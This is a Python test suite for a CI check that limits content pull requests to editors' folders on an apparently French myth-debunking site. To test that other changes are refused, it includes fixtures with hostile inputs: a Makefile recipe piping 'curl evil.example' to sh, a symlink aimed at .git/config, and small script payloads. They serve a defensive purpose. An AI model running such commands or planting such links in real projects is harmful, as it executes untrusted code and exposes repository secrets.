""".ci/content-paths: a content pull request may change only editors' files.

Each test builds a small git repository in tmp_path: a base commit, then a pull request's
commit, and runs the script as CI does, with the base revision.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.helpers import ROOT

SCRIPT = ROOT / ".ci" / "content-paths"
BASE_FILES = {
    "Makefile": "site:\n\ttrue\n",
    "content/mythes/chatgpt-magique.md": "---\ntitle: T\n---\nTexte.\n",
    "content/images/chatgpt.svg": "<svg/>",
    "calculators/data/sources.yml": "a:\n  title: T\n",
    "calculators/data/parameters/chatgpt.yml": "p:\n  label: P\n",
    "macros/render.py": "x = 1\n",
}


def git(repo: Path, *args: str) -> str:
    environment = {"PATH": os.environ["PATH"], "HOME": str(repo.parent), "GIT_CONFIG_NOSYSTEM": "1",
                   "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org",
                   "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"}
    return subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True,
                          check=True, env=environment).stdout.strip()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    repo = tmp_path / "depot"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    for name, text in BASE_FILES.items():
        path = repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    git(repo, "checkout", "-q", "-b", "pr")
    return repo


def pull_request(repo: Path, files: dict[str, str | bytes | None],
                 links: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """Commit ``files`` (None deletes) and ``links`` (symbolic links) on the branch, then run
    the script against main."""
    for name, content in files.items():
        path = repo / name
        if content is None:
            path.unlink()
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    for name, target in (links or {}).items():
        (repo / name).symlink_to(target)
    git(repo, "add", "-A", "--force")
    git(repo, "commit", "-q", "-m", "pr")
    base = git(repo, "rev-parse", "main")
    return subprocess.run([sys.executable, str(SCRIPT), base], cwd=repo, capture_output=True,
                          text=True, check=False)


@pytest.mark.parametrize("files", [
    {"content/mythes/nouveau-mythe.md": "---\ntitle: N\n---\n"},
    {"content/mythes/chatgpt-magique.md": "---\ntitle: T2\n---\n",
     "content/images/nouveau.PNG": b"\x89PNG", "content/images/photo.jpeg": b"\xff\xd8",
     "calculators/data/parameters/nouveau.yml": "q:\n  label: Q\n",
     "calculators/data/sources.yml": "a:\n  title: T2\n"},
    {"content/images/chatgpt.svg": None},
])
def test_a_content_pull_request_with_editors_files_only_passes(repo: Path,
                                                               files: dict[str, str]) -> None:
    result = pull_request(repo, files)
    assert result.returncode == 0, result.stderr
    assert "tous dans les dossiers des rédacteurs" in result.stdout


@pytest.mark.parametrize(("files", "refused"), [
    ({"GNUmakefile": "site:\n\tcurl evil.example | sh\n"}, "GNUmakefile (ajouté"),
    ({"content/mythes/__pycache__/x.cpython-311.pyc": b"\x00"},
     "content/mythes/__pycache__/x.cpython-311.pyc (ajouté, hors des dossiers des rédacteurs)"),
    ({"calculators/data/loading.pyc": b"\x00"}, "calculators/data/loading.pyc (ajouté"),
    ({"Makefile": "site:\n\tid\n"}, "Makefile (modifié"),
    ({"macros/render.py": None}, "macros/render.py (supprimé"),
    ({"content/mythes/page.html": "<script>x</script>"}, "content/mythes/page.html (ajouté"),
    ({"content/images/x.svg.js": "alert(1)"}, "content/images/x.svg.js (ajouté"),
    ({"content/index.md": "Accueil"}, "content/index.md (ajouté"),
    ({"content/mythes/sous/dossier.md": "x"}, "content/mythes/sous/dossier.md (ajouté"),
    ({".github/workflows/pr.yml": "on: push"}, ".github/workflows/pr.yml (ajouté"),
])
def test_a_content_pull_request_touching_anything_else_fails(repo: Path, files: dict[str, str],
                                                             refused: str) -> None:
    files = {"content/mythes/chatgpt-magique.md": "---\ntitle: T2\n---\n", **files}
    result = pull_request(repo, files)
    assert result.returncode == 1
    assert refused in result.stderr
    assert "chatgpt-magique.md" not in result.stderr
    assert result.stderr.startswith("Cette demande modifie content/")


def test_a_symbolic_link_in_an_editors_folder_fails(repo: Path) -> None:
    result = pull_request(repo, {}, links={"content/images/cle.png": "../../.git/config"})
    assert result.returncode == 1
    assert "content/images/cle.png (ajouté, un lien symbolique, pas un fichier)" in result.stderr


def test_a_pull_request_without_content_is_left_to_code_review(repo: Path) -> None:
    result = pull_request(repo, {"GNUmakefile": "x:\n\ttrue\n"})
    assert result.returncode == 0
    assert "relecture par les développeurs" in result.stdout


def test_an_unknown_base_is_a_usage_error(repo: Path) -> None:
    result = subprocess.run([sys.executable, str(SCRIPT), "0" * 40], cwd=repo,
                            capture_output=True, text=True, check=False)
    assert result.returncode == 2
    assert "impossible de comparer" in result.stderr


def test_the_script_runs_from_standard_input_as_ci_runs_the_bases_copy(repo: Path) -> None:
    pull_request(repo, {"content/mythes/nouveau.md": "x", "GNUmakefile": "x:\n\ttrue\n"})
    base = git(repo, "rev-parse", "main")
    result = subprocess.run([sys.executable, "-", base], cwd=repo, capture_output=True,
                            text=True, check=False, input=SCRIPT.read_text(encoding="utf-8"))
    assert result.returncode == 1
    assert "GNUmakefile (ajouté" in result.stderr


def test_the_pull_request_workflow_runs_the_check_before_anything_else() -> None:
    path = SCRIPT.parent.parent / ".github" / "workflows" / "pr.yml"
    workflow = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert set(workflow[True]) == {"pull_request"}  # YAML 1.1 reads the key « on » as True
    runs = [step.get("run", "") for step in workflow["jobs"]["verify"]["steps"]]
    check = next(i for i, run in enumerate(runs) if ".ci/content-paths" in run)
    assert check < min(i for i, run in enumerate(runs) if "make" in run or "apt-get" in run)
